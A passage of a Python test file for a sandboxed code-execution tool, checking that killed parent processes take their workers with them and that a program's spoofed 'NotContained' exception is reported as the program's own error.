    before = {pid: _cpu_seconds(pid) for pid in pids if _contained(pid)}
    time.sleep(0.3)
    return any(_cpu_seconds(pid) - cpu >= 0.1 for pid, cpu in before.items())


APP_LIKE = """
import sys, threading, time
from gradviz.core.request import Limits, RunRequest
from gradviz.engine.client import EngineClient
client = EngineClient()
forever = RunRequest("while True:\\n    pass", limits=Limits(max_seconds=600))
threading.Thread(target=lambda: client.run(forever)).start()
time.sleep(600)
"""


@pytest.mark.timeout(180)
@pytest.mark.parametrize("kind", ["app", "cli"])
def test_sigkill_of_the_app_or_the_command_leaves_no_worker_within_two_seconds(tmp_path, kind):
    if kind == "app":
        command = [sys.executable, "-c", APP_LIKE]
    else:
        script = tmp_path / "forever.py"
        script.write_text("while True:\n    pass\n")
        command = [sys.executable, "-m", "gradviz", "inspect", str(script)]
    proc = subprocess.Popen(command, cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)},
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 120
        want = 2 if kind == "app" else 1  # the zygote and the run's worker; the command's own worker
        while True:
            engine_pids = _alive(_descendants(proc.pid))
            if len(engine_pids) >= want and _running_a_program(engine_pids):
                break
            assert time.monotonic() < deadline, f"no worker ran the program: {engine_pids}"
            time.sleep(0.1)
        proc.kill()
        proc.wait()
        # The two seconds are the behaviour under test (workers die with their parent, at once);
        # the bound is loose for that and tight for a worker left running its endless loop.
        gone_by = time.monotonic() + 2.0
        while _alive(engine_pids) and time.monotonic() < gone_by:
            time.sleep(0.05)
        assert _alive(engine_pids) == set()
    finally:
        if proc.poll() is None:
            proc.kill()


def test_an_error_named_like_the_apps_verdicts_stays_the_programs(engine, arena):
    """A program's own WorkerCrashed or NotContained is shown as the program's, never as the app's
    verdict (a fake "cannot be contained" would get a lesson trusted)."""
    result = run_hostile(engine, arena, """\
        class NotContained(Exception):
            pass
        print("before")
        raise NotContained("trust me")
        """)
    assert result.error.type == "__main__.NotContained" and result.error.message == "trust me"
    assert result.stdout == "before\n" and result.error.line == 4
    assert [s.error.type for s in result.statements if s.error] == ["__main__.NotContained"]
